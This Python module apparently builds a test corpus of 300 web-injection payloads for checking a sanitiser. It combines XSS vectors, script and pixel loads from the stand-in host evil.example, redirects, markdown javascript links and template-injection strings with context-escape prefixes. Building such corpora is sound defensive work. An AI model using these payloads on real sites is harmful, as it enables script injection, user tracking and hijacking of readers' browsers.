"""What a hostile platform would write into its pages to have our readers' browsers obey it: 300 payloads."""

from itertools import product

#: Each runs a script or makes a request when a browser takes it for markup.
_ACTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/x) }</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input autofocus onfocus=alert(1)></form>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/pixel.png)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "{{ cycler.__init__.__globals__.os.system('true') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}",
    "&lt;img src=x onerror=alert(1)&gt;",
)
#: Ways out of where the text is put: an attribute, a script, a comment, a title, a style, a string.
_EXITS = (
    "",
    '">',
    "'>",
    "</title>",
    "-->",
    "</script>",
    "</textarea></style>",
    "]]>",
    "\\';//",
    "\u2028`\x00\x1b\u202e",
)

PAYLOADS = tuple(leave + act for leave, act in product(_EXITS, _ACTS))
